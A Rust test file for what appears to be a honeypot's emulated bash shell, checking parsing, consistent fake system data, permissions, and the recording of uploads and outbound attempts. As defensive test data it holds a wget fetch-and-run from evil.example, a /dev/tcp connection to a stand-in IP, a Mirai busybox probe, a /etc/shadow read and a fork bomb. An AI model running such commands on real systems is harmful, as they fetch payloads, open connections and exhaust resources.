//! Dialogues with the shell.

use expect_test::{Expect, expect};
use model::{Archetype, SessionFact};
use proptest::prelude::*;

use super::{Shell, ShellFlow, ShellOutput, limits};
use crate::http::Product;
use crate::testing::{START, peer, persona};

fn shell(user: usize) -> Shell {
    let persona = persona(1, "web-01", Archetype::WebServer);
    let account = persona.accounts[user].clone();
    Shell::new(persona, &account, peer().ip(), START, [3; 32])
}

/// Types lines at a prompt; what they print stands under each.
fn talk(shell: &mut Shell, lines: &str) -> String {
    let mut shown = String::new();
    for line in lines.lines().map(str::trim).filter(|line| !line.is_empty()) {
        let mut out = Vec::new();
        let prompt = shell.prompt();
        let flow = shell.run_line(START, line, &mut out);
        shown.push_str(&format!("{prompt}{line}\n{}", String::from_utf8_lossy(&out)));
        if let ShellFlow::Exit(status) = flow {
            shown.push_str(&format!("[exit {status}]\n"));
        }
    }
    shown
}

fn check(lines: &str, expected: &Expect) {
    expected.assert_eq(&talk(&mut shell(0), lines));
}

fn exec(command: &str) -> (String, String, u8) {
    let mut out = ShellOutput::default();
    let status = shell(0).exec(START, command, b"", &mut out);
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (text(&out.stdout), text(&out.stderr), status)
}

#[test]
fn writes_persist_within_the_session() {
    check(
        r#"
        cd /tmp
        echo hello > a; cat a
        echo -ne "\x7f\x45" >> a && wc -c a
        mkdir -p x/y && cp a x/y/b && ls x/y
        mv x/y/b c; rm -r x; ls
        cat nope
        ./c
        chmod +x c; ls x
        "#,
        &expect![[r#"
            root@web-01:~# cd /tmp
            root@web-01:/tmp# echo hello > a; cat a
            hello
            root@web-01:/tmp# echo -ne "\x7f\x45" >> a && wc -c a
            8 a
            root@web-01:/tmp# mkdir -p x/y && cp a x/y/b && ls x/y
            b
            root@web-01:/tmp# mv x/y/b c; rm -r x; ls
            a  c
            root@web-01:/tmp# cat nope
            cat: nope: No such file or directory
            root@web-01:/tmp# ./c
            -bash: ./c: Permission denied
            root@web-01:/tmp# chmod +x c; ls x
            ls: cannot access 'x': No such file or directory
        "#]],
    );
}

#[test]
fn bash_parses_what_bots_send() {
    check(
        r#"
        for i in 1 2 3; do echo -n $i; done; echo
        A="x y"; echo "$A" '$A' ${A:-z} ${B:-z} $((2+3*4)) $(echo sub `echo nested`)
        if [ -d /tmp ]; then echo dir; else echo none; fi
        foo || echo failed with $?
        /bin/busybox MIRAI
        cat /proc/mounts | grep -c tmpfs; echo {a,b}{1..2}
        echo foo |
        tr a-z A-Z
        cat <<EOF > /tmp/here
        some $HOME text
        EOF
        cat /tmp/here
        echo "a
        b"
        echo )
        while read x; do echo "got $x"; done < /etc/hostname
        f() { echo "in $1"; }; f arg
        "#,
        &expect![[r#"
            root@web-01:~# for i in 1 2 3; do echo -n $i; done; echo
            123
            root@web-01:~# A="x y"; echo "$A" '$A' ${A:-z} ${B:-z} $((2+3*4)) $(echo sub `echo nested`)
            x y $A x y z 14 sub nested
            root@web-01:~# if [ -d /tmp ]; then echo dir; else echo none; fi
            dir
            root@web-01:~# foo || echo failed with $?
            -bash: foo: command not found
            failed with 127
            root@web-01:~# /bin/busybox MIRAI
            -bash: /bin/busybox: No such file or directory
            root@web-01:~# cat /proc/mounts | grep -c tmpfs; echo {a,b}{1..2}
            4
            a1 a2 b1 b2
            root@web-01:~# echo foo |
            > tr a-z A-Z
            FOO
            root@web-01:~# cat <<EOF > /tmp/here
            > some $HOME text
            > EOF
            root@web-01:~# cat /tmp/here
            some /root text
            root@web-01:~# echo "a
            > b"
            a
            b
            root@web-01:~# echo )
            -bash: syntax error near unexpected token `)'
            root@web-01:~# while read x; do echo "got $x"; done < /etc/hostname
            got web-01
            root@web-01:~# f() { echo "in $1"; }; f arg
            in arg
        "#]],
    );
}

#[test]
fn figures_agree_everywhere() {
    let mut shell = shell(0);
    let persona = persona(1, "web-01", Archetype::WebServer);
    let mut run = |line: &str| {
        let mut out = Vec::new();
        shell.run_line(START, line, &mut out);
        String::from_utf8_lossy(&out).trim().to_owned()
    };
    assert_eq!(run("nproc"), persona.cpus.to_string());
    assert_eq!(run("grep -c ^processor /proc/cpuinfo"), persona.cpus.to_string());
    assert_eq!(run("lscpu | grep '^CPU(s):' | awk '{print $2}'"), persona.cpus.to_string());
    let total = run("grep MemTotal /proc/meminfo | awk '{print $2}'");
    assert_eq!(run("free | awk 'NR==2{print $2}'"), total);
    assert_eq!(run("hostname"), run("cat /etc/hostname"));
    assert_eq!(run("uname -n"), run("hostname"));
    assert_eq!(run("uname -r"), run("cat /proc/sys/kernel/osrelease"));
    assert!(run("cat /proc/version").contains(persona.kernel_version));
    assert!(run("uname -a").contains(persona.kernel_version));
    assert!(run("df /").contains("/dev/sda1"));
    let up: f64 = run("cut -d. -f1 /proc/uptime").parse().expect("seconds");
    assert_eq!(up as u64, persona.uptime(START).as_secs());
}

#[test]
fn the_web_server_is_the_one_that_answers() {
    let mut seen = Vec::new();
    for index in 0..12 {
        let persona = persona(index, "web-01", Archetype::WebServer);
        let (here, absent) = match Product::of(&persona) {
            Product::Nginx => ("nginx", "apache2"),
            Product::Apache => ("apache2", "nginx"),
        };
        let account = persona.accounts[0].clone();
        let mut shell = Shell::new(persona, &account, peer().ip(), START, [3; 32]);
        for command in ["ps aux", "ss -tlnp", "systemctl", "ls /etc /usr/sbin"] {
            let shown = talk(&mut shell, command);
            assert!(shown.contains(here), "{shown}");
            assert!(!shown.contains(absent), "{shown}");
        }
        let shown = talk(&mut shell, &format!("service {here} status; service {absent} status"));
        assert!(shown.contains(&format!("{here}.service - ")), "{shown}");
        assert!(shown.contains(&format!("Unit {absent}.service could not be found.")), "{shown}");
        seen.push(here);
    }
    assert!(seen.contains(&"nginx") && seen.contains(&"apache2"), "{seen:?}");
}

#[test]
fn a_pipe_that_says_nothing_opens_no_shell() {
    check(
        "
        true | sh
        nope
        ",
        &expect![[r#"
            root@web-01:~# true | sh
            root@web-01:~# nope
            -bash: nope: command not found
        "#]],
    );
}

#[test]
fn permissions_hold_for_a_person() {
    let mut shell = shell(1);
    let shown = talk(
        &mut shell,
        "
        cat /etc/shadow
        ls /root
        touch /etc/x
        mkdir /proc/x
        rm /etc/passwd
        cd /root
        ",
    );
    assert_eq!(shown.matches("Permission denied").count(), 5, "{shown}");
}

#[test]
fn nothing_goes_out_and_attempts_are_recorded() {
    let mut shell = shell(0);
    let shown = talk(
        &mut shell,
        "
        cd /tmp; wget http://evil.example/x.sh; curl -sO http://192.0.2.1/y; sh x.sh
        ping -c 1 example.org
        exec 3<>/dev/tcp/192.0.2.1/80
        ",
    );
    assert!(shown.contains("failed: Temporary failure in name resolution"), "{shown}");
    let requests: Vec<String> = shell
        .take_facts()
        .into_iter()
        .filter_map(|fact| match fact {
            SessionFact::Request { text } => Some(text),
            _ => None,
        })
        .collect();
    expect![[r#"
        GET http://evil.example/x.sh
        GET http://192.0.2.1/y
        ping example.org
        CONNECT 192.0.2.1:80"#]]
    .assert_eq(&requests.join("\n"));
}

#[test]
fn written_files_are_uploads() {
    let mut shell = shell(0);
    let mut out = ShellOutput::default();
    let status =
        shell.exec(START, "cat > /tmp/m; chmod 777 /tmp/m; /tmp/m", b"\x7fELF123", &mut out);
    assert_eq!(status, 0);
    let facts = shell.take_facts();
    expect![[r#"[Upload { name: "/tmp/m", sha256: "0a7a87c9d3fca2adcf84a4f36efdc890e92cbdcfd3632d857eda8788213ba673", bytes: 7 }]"#]].assert_eq(&format!("{facts:?}"));
}

#[test]
fn sudo_asks_for_the_password() {
    let mut shell = shell(1);
    let persona = persona(1, "web-01", Archetype::WebServer);
    talk(&mut shell, "sudo id -u");
    assert!(shell.prompt().starts_with("[sudo] password for "));
    let shown = talk(&mut shell, "wrong");
    assert!(shown.contains("Sorry, try again."), "{shown}");
    let shown = talk(&mut shell, &persona.accounts[1].password);
    assert!(shown.ends_with("\n0\n"), "{shown}");
    talk(&mut shell, "sudo -i\nignored");
}

#[test]
fn exec_speaks_as_bash_c() {
    let (out, err, status) = exec("uname -s -m; nope; exit 3");
    assert_eq!((out.as_str(), status), ("Linux x86_64\n", 3));
    assert_eq!(err, "bash: line 1: nope: command not found\n");
    let (_, err, status) = exec("if");
    assert_eq!(status, 2, "{err}");
    assert_eq!(exec("echo $((1/0)) $0; false").2, 1);
}

#[test]
fn exit_leaves_shell_by_shell() {
    let mut shell = shell(0);
    talk(&mut shell, "bash\ncd /");
    assert!(talk(&mut shell, "exit").ends_with("exit\n"));
    assert!(talk(&mut shell, "exit 7").ends_with("logout\n[exit 7]\n"));
}

#[test]
fn budgets_hold() {
    let nested = format!("echo {}x{}", "$(echo ".repeat(3_000), ")".repeat(3_000));
    for line in [
        "while true; do echo x; done",
        "while :; do :; done",
        "yes",
        "yes | cat | cat | wc -c",
        "cat /dev/zero",
        "cat /dev/urandom | base64",
        "f() { f; f; }; f",
        "echo '. /tmp/s' > /tmp/s; . /tmp/s",
        "echo '#!/bin/sh\n/tmp/t; /tmp/t' > /tmp/t; chmod +x /tmp/t; /tmp/t",
        "echo {1..999999}{1..999999}{1..999999}",
        "echo /*/*/*/* /*/*/*/*/../*/../*/../*/../*",
        "A=aaaaaaaaaaaaaaaa; for i in {1..60}; do A=$A$A; done; echo $A",
        "dd if=/dev/zero of=/tmp/z bs=1G count=9999",
        "for i in {1..5000}; do cat /bin/bash >> /tmp/big; done",
        "seq 1 99999999999",
        "printf '%99999999d' 1",
        ":(){ :|:& };:",
        "A='A=1'; eval $A; B='eval $B'; eval $B",
        nested.as_str(),
        &"(".repeat(60_000),
        &"a;".repeat(30_000),
        &"$".repeat(60_000),
        &"-".repeat(2).repeat(600).replace("--", "$((-"),
    ] {
        let begun = std::time::Instant::now();
        let mut shell = shell(0);
        let mut out = Vec::new();
        shell.run_line(START, line, &mut out);
        let head: String = line.chars().take(60).collect();
        assert!(out.len() <= limits::MAX_SHOWN_BYTES + 64, "{head}: {}", out.len());
        let spent = begun.elapsed();
        assert!(spent.as_secs() < 20, "{head}: {spent:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..Default::default() })]

    #[test]
    fn no_text_makes_it_panic(line in "\\PC{0,80}") {
        talk(&mut shell(0), &line);
    }

    #[test]
    fn no_words_make_it_panic(
        words in prop::collection::vec(
            prop::sample::select(vec![
                "ls", "-la", "cat", "/etc/passwd", "|", ";", "&&", "||", "(", ")", "{", "}", "$(",
                "`", "\"", "'", "$", "${", "$((", "))", "if", "then", "fi", "for", "i", "in", "do",
                "done", "while", "case", "esac", ";;", ">", ">>", "<", "<<", "2>&1", "&", "!", "*",
                "?", "[", "]", "\\", "\n", "echo", "-ne", "\\x", "dd", "head", "-c", "9", "tail",
                "-n", "+3", "cut", "-d:", "-f1", "grep", "tr", "a-z", "sort", "find", "/", "cp",
                "mv", "rm", "-rf", "..", "sed", "s/a/b/", "awk", "{print $1}", "printf", "%s", "%",
                "chmod", "+x", "=", "A=1", "test", "su", "sudo", "exit", "bash", "-c", "xargs",
                "ps", "uname", "ip", "wget", "é", "\u{0}",
            ]),
            0..14,
        )
    ) {
        let line = words.join(" ");
        let mut shell = shell(1);
        for _ in 0..2 {
            let mut out = Vec::new();
            shell.run_line(START, &line, &mut out);
            let _ = shell.prompt();
        }
        exec(&line);
    }
}
